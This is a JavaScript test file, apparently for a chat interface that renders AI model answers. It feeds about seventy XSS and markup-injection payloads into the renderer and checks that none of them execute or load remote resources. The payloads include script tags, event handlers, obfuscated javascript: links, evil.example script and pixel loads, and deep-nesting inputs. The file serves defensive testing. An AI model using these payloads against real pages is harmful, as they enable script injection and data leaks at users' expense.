// A model's output is untrusted: nothing in it runs, nothing is fetched for it,
// and only elements and attributes of a fixed list are rendered.
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { Stage } from './stage.mjs'

const boom = 'globalThis.pwned=1;alert(1)'
const corpus = [
  `<script>${boom}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="${boom}">`,
  `<img src="https://evil.example/pixel.png">`,
  `![pixel](https://evil.example/pixel.png)`,
  `![x](https://evil.example/p.png "title" onerror="${boom}")`,
  `[![badge](https://evil.example/badge.svg)](javascript:${boom})`,
  `![x][ref]\n\n[ref]: https://evil.example/ref.png`,
  `[click](javascript:${boom})`,
  `[click](JaVaScRiPt:${boom})`,
  `[click](java\tscript:${boom})`,
  `[click](&#106;avascript:${boom})`,
  `[click](&#x6A;avascript&colon;${boom})`,
  `[click]( javascript:${boom})`,
  `[click](<javascript:${boom}>)`,
  `[click](\u0001javascript:${boom})`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](vbscript:msgbox)`,
  `[click](file:///etc/passwd)`,
  `[click](blob:https://evil.example/1)`,
  `[click](//evil.example/x)`,
  `[click](/v1/logout)`,
  `[click](/login#AAAAA-AAAAA)`,
  `[click](https://user:password@evil.example/)`,
  `<javascript:${boom}>`,
  `<https://evil.example/"onmouseover="${boom}>`,
  `[a](https://evil.example/"onmouseover="${boom})`,
  `[a](https://evil.example 'x" onmouseover="${boom}')`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<svg onload="${boom}"><script>${boom}</script></svg>`,
  `<svg><a xlink:href="javascript:${boom}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${boom}"></style></mglyph></table></mtext></math>`,
  `<style>@import 'https://evil.example/x.css'; body { display: none }</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<form action="https://evil.example"><input name=a><button>Stop</button></form>`,
  `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">`,
  `<video src="https://evil.example/v.mp4" autoplay onerror="${boom}"></video>`,
  `<audio src=x onerror="${boom}"></audio>`,
  `<details open ontoggle="${boom}"><summary>x</summary></details>`,
  `<body onload="${boom}">`,
  `<div style="background:url(https://evil.example/bg.png);position:fixed;inset:0">over all</div>`,
  `<a href="https://evil.example" target="_self" onclick="${boom}">x</a>`,
  `<template><script>${boom}</script></template><noscript><img src=x onerror="${boom}"></noscript>`,
  `<x-element onfocus="${boom}" autofocus tabindex=1>`,
  '```html\n<script>' + boom + '</script>\n```',
  '```"><img/src=x/onerror=' + boom + '>\ncode\n```',
  '`<img src=x onerror=' + boom + '>`',
  `| <img src=x onerror=${boom}> | b |\n|---|---|\n| <script>${boom}</script> | [c](javascript:${boom}) |`,
  `- [ ] <img src=x onerror="${boom}">\n- [x] [y](javascript:${boom})`,
  `> <script>${boom}</script>\n> > ![q](https://evil.example/q.png)`,
  `# <img src=x onerror="${boom}"> [h](javascript:${boom})`,
  `&lt;img src=x onerror="${boom}"&gt;`,
  `<!--><img src=x onerror="${boom}">-->`,
  `<![CDATA[<script>${boom}</script>]]>`,
  `<<script>${boom}//<</script>`,
  `</div></main><script>${boom}</script>`,
  `{{constructor.constructor('${boom}')()}} \${${boom}}`,
  `__proto__ [constructor](https://example.com) <constructor>`,
  '```js\nconst a = "</span><img src=x onerror=' + boom + '>" // </code><script>' + boom + '</script>\n/* <svg onload=' + boom + '> */ `${' + boom + '}`\n```',
  '```go\n// <img src=https://evil.example/c.png>\nvar s = "<script>' + boom + '</script>" + `<iframe src=javascript:' + boom + '>`\n```',
  '```constructor\n__proto__ <script>' + boom + '</script>\n```',
  '```__proto__\nif <img src=x onerror=' + boom + '>\n```',
  '```diff\n--- <img src=x onerror=' + boom + '>\n+++ b/<script>' + boom + '</script>\n@@ -1 +1 @@ <svg onload=' + boom + '>\n-<script>' + boom + '</script>\n+<img src=https://evil.example/d.png onerror=' + boom + '>\n```',
  '```diff\n@@ -99999999999999999999 +1e9 @@\n-<a href=javascript:' + boom + '>x</a>\n+<a href="javascript:' + boom + '" onclick=' + boom + '>y</a>\n```',
  '```patch\n*** Begin Patch\n*** Update File: <img src=x onerror=' + boom + '>\n-\u202e<b>\n+</div><script>' + boom + '</script>\n```',
  '```json\n' + '{"<img src=x onerror=1>":['.repeat(150) + '\n```',
  '```c\n' + '/*'.repeat(5000) + '<script>' + boom + '</script>\n```',
  '>'.repeat(3000) + ' deep',
  '['.repeat(3000) + '](javascript:' + boom + ')',
  '*'.repeat(2000) + 'a' + '_'.repeat(2000),
]

let s
before(async () => { s = await Stage.open() })
after(() => s?.close())

test(`${corpus.length} hostile answers run nothing and load nothing`, async () => {
  assert.ok(corpus.length >= 40)
  const page = await s.page()
  const id = await s.session()
  await page.goto(`${s.url}/s/${id}`)
  for (const attack of corpus) await s.api('POST', `/v1/sessions/${id}/turns`, { text: `x\n\n${attack}` })
  await page.waitForFunction((n) => document.querySelectorAll('.badge.done').length === n, corpus.length, { timeout: 60000 })
  const found = await page.evaluate(() => {
    const allowed = new Set('DIV P SPAN A H3 H4 H5 H6 UL OL LI BLOCKQUOTE HR PRE CODE FIGURE FIGCAPTION BUTTON TABLE THEAD TBODY TR TH TD STRONG EM DEL BR INPUT'.split(' '))
    const plain = new Set('class href title target rel type tabindex aria-label aria-hidden role scope start checked disabled'.split(' '))
    const bad = []
    for (const e of document.querySelectorAll('.prose, .prose *')) {
      if (!allowed.has(e.tagName)) bad.push(`element ${e.tagName}`)
      for (const a of e.attributes) if (!plain.has(a.name)) bad.push(`${e.tagName} ${a.name}=${a.value}`)
      if (e.tagName === 'A' && (!/^(https?|mailto):/.test(e.href) || e.target !== '_blank' || !e.rel.includes('noopener') || e.origin === location.origin || e.password)) bad.push(`link ${e.outerHTML}`)
    }
    return { bad, pwned: globalThis.pwned, answers: document.querySelectorAll('.prose').length, links: document.querySelectorAll('.prose a').length }
  })
  assert.deepEqual(found.bad, [])
  assert.equal(found.pwned, undefined)
  assert.ok(found.answers >= corpus.length, `${found.answers} answers`)
  assert.ok(found.links > 5, 'good links are links')
  assert.ok(await page.locator('.prose .hl-string').count() > 0 && await page.locator('.prose .diff .word').count() > 0, 'code and diffs are coloured')
  for (const link of await page.locator('.prose a').all()) await link.hover({ timeout: 2000 }).catch(() => {})
  assert.equal(await page.evaluate(() => globalThis.pwned), undefined)
  assert.deepEqual(page.context().watch, { foreign: [], violations: [], dialogs: [], errors: [] })
  console.log(`${corpus.length} hostile answers: 0 ran, 0 requests left`)
})

// The diff of a call is hostile in its path, its lines and the file that it
// changes; the question and the card show it as text.
test('hostile edits are shown as text, in the question and in the call', async () => {
  const page = await s.page()
  const id = await s.session()
  await page.goto(`${s.url}/s/${id}`)
  const bad = `<img src=x onerror="${boom}"></span></pre><script>${boom}</script>`
  const call = (name, args) => s.api('POST', `/v1/sessions/${id}/turns`, { text: `[tool ${name} ${JSON.stringify(args).replaceAll('<', '\\u003c')}]` })
  await call('write_file', { path: 'a.js', content: `const a = "${bad.replaceAll('"', "'")}"\n// ${bad}\n` })
  await page.locator('.badge.done').waitFor()
  await s.api('PATCH', `/v1/sessions/${id}`, { mode: 'ask' })
  await call('edit_file', { path: 'a.js', old: 'const a', new: `const \u202e${bad}\nlet a` })
  await page.locator('.question .diff .added').first().waitFor()
  const found = await page.evaluate(() => ({
    pwned: globalThis.pwned, elements: [...new Set([...document.querySelectorAll('.diff *')].map((e) => e.tagName))], text: document.querySelector('.question .diff').textContent,
  }))
  assert.equal(found.pwned, undefined)
  assert.deepEqual(found.elements.sort(), ['DIV', 'SPAN'])
  assert.ok(found.text.includes(bad) && found.text.includes('\\u202E'), found.text)
  assert.deepEqual(page.context().watch, { foreign: [], violations: [], dialogs: [], errors: [] })
})
